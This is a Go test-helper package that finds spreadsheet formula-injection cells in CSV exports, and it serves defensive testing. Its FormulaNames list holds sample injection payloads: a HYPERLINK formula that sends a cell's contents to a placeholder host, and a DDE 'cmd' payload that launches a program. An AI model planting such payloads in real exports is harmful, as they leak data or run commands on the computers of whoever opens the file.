package sheettest

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"unicode/utf8"

	"golang.org/x/text/encoding/simplifiedchinese"
)

// FormulaNames are cells an attacker puts into a name or an address for a
// spreadsheet to evaluate when an export is opened.
var FormulaNames = []string{
	`=HYPERLINK("http://example.invalid/?"&A1,"点击")`,
	`=cmd|' /C calc'!A0`,
	"+1+1", "-1+1", "@SUM(A1:A9)", "＝1+1", "－1",
}

// formulaStarts are the first characters of a cell a spreadsheet may read
// as a formula (package sheet neutralises them).
const formulaStarts = "=+-@\t\r\n\x00＝＋－＠"

// EvaluableCells reads a CSV file as package sheet writes it (UTF-8 with
// a byte-order mark, or GB18030) and returns every cell a spreadsheet
// would evaluate, as "record 3, cell 2: =1+1": a cell that begins, after
// spaces, with a formula character, unless it is a plain number in one of
// the number columns (0-based).
func EvaluableCells(data []byte, numbers ...int) ([]string, error) {
	if b, ok := bytes.CutPrefix(data, []byte("\ufeff")); ok {
		data = b
	} else if !utf8.Valid(data) {
		var err error
		if data, err = simplifiedchinese.GB18030.NewDecoder().Bytes(data); err != nil {
			return nil, err
		}
	}
	cr := csv.NewReader(bytes.NewReader(data))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		return nil, err
	}
	var bad []string
	for i, rec := range recs {
		for j, c := range rec {
			if _, err := strconv.ParseFloat(c, 64); err == nil && slices.Contains(numbers, j) && !strings.HasPrefix(c, "+") {
				continue
			}
			t := strings.TrimLeft(c, " \u3000")
			if r, _ := utf8.DecodeRuneInString(t); t != "" && strings.ContainsRune(formulaStarts, r) {
				bad = append(bad, fmt.Sprintf("record %d, cell %d: %q", i+1, j+1, c))
			}
		}
	}
	return bad, nil
}
